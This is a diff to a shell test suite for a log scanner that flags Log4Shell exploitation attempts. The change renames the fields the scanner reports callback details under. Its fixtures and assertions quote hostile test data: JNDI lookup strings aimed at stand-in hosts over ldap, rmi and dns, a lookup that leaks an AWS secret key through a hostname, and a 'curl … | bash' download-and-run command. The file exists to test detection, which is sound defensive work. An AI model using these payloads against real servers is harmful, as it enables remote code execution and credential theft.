@@ -25,9 +25,9 @@ attacks() {
     [ "$status" -eq 1 ]
     echo "$output" | jq_alerts '.kensa.verdict == "attack" and .kensa.line == 2
         and .source.ip == "203.0.113.7" and .kensa.log_time == "11/Dec/2021:10:00:01 +0000"
-        and .kensa.callback.scheme == "ldap" and .kensa.callback.host == "x.evil.example"
-        and .kensa.callback.port == "1389" and .kensa.callback.path == "/a"
-        and .kensa.callback.domain == "evil.example" and .kensa.threat == "log4shell"
+        and .url.scheme == "ldap" and .url.domain == "x.evil.example"
+        and .url.port == 1389 and .url.path == "/a"
+        and .url.registered_domain == "evil.example" and .kensa.threat == "log4shell"
         and .event.dataset == "kensa.logs" and (.event.original | test("jndi"))'
 }
 
@@ -81,7 +81,7 @@ X
     [ "$status" -eq 1 ]
     echo "$output" | jq_any '.kensa.line == 1 and .kensa.decoding == "b64" and .kensa.verdict == "attack"'
     echo "$output" | jq_any '.kensa.line == 2 and .kensa.command == "curl -s 198.51.100.9/x.sh|bash"
-        and .kensa.callback.host == "198.51.100.9" and .kensa.callback.domain == "198.51.100.9"'
+        and .url.domain == "198.51.100.9" and .url.registered_domain == "198.51.100.9"'
 }
 
 @test "callbacks: exfiltration, CVE-2021-45046 host, ldap:/host, two payloads" {
@@ -93,12 +93,12 @@ a=${jndi:ldap://one.example/a} b=${jndi:rmi://two.example.co.jp:1099/b}
 X
     run k logs --json "$L/cb.txt"
     echo "$output" | jq_any '.kensa.line == 1 and .kensa.exfil == true
-        and .kensa.callback.host == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
-        and .kensa.callback.domain == "evil.example"'
-    echo "$output" | jq_any '.kensa.line == 2 and .kensa.callback.host == "127.0.0.1#evil.example"
-        and .kensa.callback.port == "1389"'
-    echo "$output" | jq_any '.kensa.line == 3 and .kensa.verdict == "attack" and .kensa.callback.host == "x.evil.example"'
-    [ "$(echo "$output" | jq -r 'select(.kensa.line == 4 and .kensa.verdict == "attack") | .kensa.callback.domain' | sort | tr '\n' ' ')" = "example.co.jp one.example " ]
+        and .url.domain == "${env:AWS_SECRET_ACCESS_KEY}.evil.example"
+        and .url.registered_domain == "evil.example"'
+    echo "$output" | jq_any '.kensa.line == 2 and .url.domain == "127.0.0.1#evil.example"
+        and .url.port == 1389'
+    echo "$output" | jq_any '.kensa.line == 3 and .kensa.verdict == "attack" and .url.domain == "x.evil.example"'
+    [ "$(echo "$output" | jq -r 'select(.kensa.line == 4 and .kensa.verdict == "attack") | .url.registered_domain' | sort | tr '\n' ' ')" = "example.co.jp one.example " ]
 }
 
 @test "not an attack: escapes, truncation, other lookups, shells, templates, hunters" {
@@ -151,14 +151,14 @@ PY
     run k logs --json "$L/big.log"
     [ "$status" -eq 1 ]
     echo "$output" | jq -e -s 'length == 2'
-    echo "$output" | jq_any '.kensa.line == 2 and .kensa.callback.host == "long.evil.example"'
+    echo "$output" | jq_any '.kensa.line == 2 and .url.domain == "long.evil.example"'
     echo "$output" | jq_any '.kensa.line == 3'
 }
 
 @test "standard input" {
     run sh -c "printf 'a\n\${jndi:dns://stdin.evil.example}\n' | '$KENSA' logs --json --no-summary -"
     [ "$status" -eq 1 ]
-    echo "$output" | jq_alerts '.kensa.line == 2 and .kensa.callback.scheme == "dns"'
+    echo "$output" | jq_alerts '.kensa.line == 2 and .url.scheme == "dns"'
 }
 
 @test "evidence beyond the string: multi-line records, Log4j errors, second stage" {
@@ -172,8 +172,8 @@ PY
 GET /ExploitQ8v7ygBW4i.class HTTP/1.1 | User-Agent: Java/1.8.0_181
 X
     run k logs --json "$L/multi.log"
-    echo "$output" | jq_any '.kensa.line == 2 and .kensa.verdict == "attack" and .kensa.callback.host == "poly.evil.example"'
-    echo "$output" | jq_any '.kensa.line == 5 and .kensa.verdict == "attack" and .kensa.callback.host == "192.0.2.5"
+    echo "$output" | jq_any '.kensa.line == 2 and .kensa.verdict == "attack" and .url.domain == "poly.evil.example"'
+    echo "$output" | jq_any '.kensa.line == 5 and .kensa.verdict == "attack" and .url.domain == "192.0.2.5"
         and .kensa.log_time == "2021-12-12 10:00:00"'
     echo "$output" | jq_any '.kensa.line == 6 and .kensa.verdict == "suspicious"'
     echo "$output" | jq_any '.kensa.line == 7 and .kensa.verdict == "attack"'
